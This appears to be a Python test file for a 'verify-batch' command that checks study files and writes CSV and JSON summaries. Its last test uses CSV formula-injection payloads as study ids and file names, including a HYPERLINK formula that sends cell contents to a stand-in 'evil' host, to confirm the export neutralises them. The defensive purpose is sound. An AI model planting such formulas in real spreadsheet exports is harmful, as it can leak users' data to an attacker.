"""``verify-batch``: many studies, one summary (CSV + JSON), bad files listed with reasons."""

from __future__ import annotations

import csv
import json

from footprint.certification.batch import verify_folder, write_summary
from footprint.cli import main

from ..study_fixtures import EVALUATION_DATE, STUDY_DATASET, build_study, lamp_study_data, study_dataset, study_engine  # noqa: F401


def _folder(tmp_path, engine):
    folder = tmp_path / "studies"
    folder.mkdir()
    good = build_study(engine, lamp_study_data())
    (folder / "a-good.json").write_text(good.to_json(), encoding="utf-8")
    tampered = json.loads(good.to_json())
    tampered["declared"]["lines"]["DRIVER"] = 3.0  # declared 3.0, recomputed 2.0
    (folder / "b-tampered.json").write_text(json.dumps(tampered), encoding="utf-8")
    (folder / "c-corrupted.json").write_text(good.to_json()[:500], encoding="utf-8")  # cut off mid-file
    (folder / "d-not-a-study.json").write_text("[1, 2, 3]", encoding="utf-8")
    other = json.loads(good.to_json())
    other["declared"]["dataset"]["sha256"] = "0" * 64
    (folder / "e-other-dataset.json").write_text(json.dumps(other), encoding="utf-8")
    (folder / "notes.txt").write_text("not a study", encoding="utf-8")
    (folder / "a-good.verification.json").write_text("{}", encoding="utf-8")  # our own outputs: skipped
    (folder / "GBA-CFP-2025-X.certificate.json").write_text("{}", encoding="utf-8")
    return folder


def test_batch_continues_past_bad_files(tmp_path, study_engine):
    folder = _folder(tmp_path, study_engine)
    from footprint.certification.verify import VerifyOptions

    result = verify_folder(folder, VerifyOptions(dataset_dir=STUDY_DATASET, verification_date=EVALUATION_DATE), progress=False)
    statuses = {row["file"]: row["status"] for row in result.rows}
    assert statuses == {
        "a-good.json": "passed",
        "b-tampered.json": "failed",
        "c-corrupted.json": "error",
        "d-not-a-study.json": "error",
        "e-other-dataset.json": "error",
    }
    assert result.counts == {"passed": 1, "passed_with_findings": 0, "failed": 1, "error": 3}
    reasons = {bad["file"]: bad["reason"] for bad in result.bad_files}
    assert "not valid JSON" in reasons["c-corrupted.json"]
    assert "JSON object" in reasons["d-not-a-study.json"]
    assert "was computed with dataset study-test 0.0.1 (sha256 000000000000" in reasons["e-other-dataset.json"]
    tampered = next(row for row in result.rows if row["file"] == "b-tampered.json")
    assert tampered["material"] and "Material misstatement" in tampered["reason"]

    csv_path, json_path = write_summary(result, tmp_path / "out")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["file"] for r in rows] == sorted(statuses) and rows[0]["status"] == "passed"
    summary = json.loads(json_path.read_text(encoding="utf-8"))
    assert summary["counts"]["error"] == 3 and len(summary["bad_files"]) == 3 and len(summary["studies"]) == 5


def test_verify_batch_command(tmp_path, study_engine, capsys):
    folder = _folder(tmp_path, study_engine)
    out = tmp_path / "summary"
    code = main(["verify-batch", str(folder), "--dataset", str(STUDY_DATASET), "--date", EVALUATION_DATE.isoformat(), "--out", str(out), "--reports"])
    captured = capsys.readouterr()
    assert code == 1  # one failed study and three bad files
    assert "5 studies: 1 passed, 0 passed with findings, 1 failed, 3 could not be verified" in captured.out
    assert "bad file c-corrupted.json" in captured.out and "failed b-tampered.json" in captured.out
    assert "verifying" in captured.err and "5/5" in captured.err  # the progress bar, on stderr only
    assert "verifying" not in captured.out
    assert (out / "summary.csv").exists() and (out / "a-good.verification.json").exists()

    only_good = tmp_path / "good"
    only_good.mkdir()
    (only_good / "a.json").write_text((folder / "a-good.json").read_text(encoding="utf-8"), encoding="utf-8")
    assert main(["verify-batch", str(only_good), "--dataset", str(STUDY_DATASET), "--date", EVALUATION_DATE.isoformat(), "--no-progress"]) == 0
    assert (only_good / "verification" / "summary.json").exists()
    assert main(["verify-batch", str(tmp_path / "missing")]) == 2


def test_summary_csv_never_carries_a_formula(tmp_path, study_engine):
    """Hostile file names and study ids (formulas, leading blanks, full-width ＝, tab/CR) reach
    summary.csv only as text; numbers stay numbers."""
    from footprint.exchange.safe import is_dangerous

    folder = tmp_path / "hostile"
    folder.mkdir()
    for index, study_id in enumerate(["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", " =1+1", "＝1+1", "@SUM(A1)", "+cmd", "-2+3"]):
        data = lamp_study_data()
        data["study_id"] = study_id
        (folder / f"s{index}.json").write_text(build_study(study_engine, data).to_json(), encoding="utf-8")
    for name in ("=1+1.json", " =2+2.json", "＝3+3.json", "\t=4+4.json", "\r=5+5.json", "-6.json"):
        (folder / name).write_text("{not json", encoding="utf-8")
    from footprint.certification.verify import VerifyOptions

    result = verify_folder(folder, VerifyOptions(dataset_dir=STUDY_DATASET, verification_date=EVALUATION_DATE), progress=False)
    csv_path, _ = write_summary(result, tmp_path / "out")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 13
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if is_dangerous(cell) and not _number(cell)]
    by_file = {row[0].lstrip("'"): row for row in rows[1:]}
    assert by_file["s0.json"][1] == "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" and by_file["s0.json"][2] == "passed"
    assert by_file["s2.json"][1] == "'＝1+1" and by_file["\t=4+4.json"][0] == "'\t=4+4.json"
    assert float(by_file["s0.json"][6]) > 0  # a number, not a quoted text


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
